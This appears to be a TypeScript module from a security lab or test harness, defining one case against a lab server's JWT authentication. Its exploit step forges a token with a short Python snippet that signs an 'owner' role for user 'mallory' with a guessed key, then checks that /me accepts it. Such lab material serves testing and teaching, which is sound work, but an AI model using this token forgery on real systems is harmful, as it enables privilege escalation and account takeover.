import type { LabModule } from '../../labModule';

const FORGE = ['import jwt', 'print(jwt.encode({"sub": "mallory", "role": "owner"}, "x" * 32))'];

export const lab: LabModule = {
  env: { JWT_KEY: 'a-key-that-only-the-server-of-the-lab-knows' },
  cases: [
    {
      name: 'a token signed by the attacker',
      honest: [
        {
          to: 'POST /token',
          form: { password: 'apple-tree' },
          save: { token: /"token":"([^"]+)"/ },
          shows: 'token',
        },
        {
          to: '/me',
          headers: { Authorization: ({ token }) => `Bearer ${token}` },
          shows: '"role":"customer"',
        },
      ],
      exploit: [
        { python: FORGE, saveAs: 'token' },
        { to: '/me', headers: { Authorization: ({ token }) => `Bearer ${token}` } },
      ],
      proof: { body: '"role":"owner"' },
    },
  ],
};
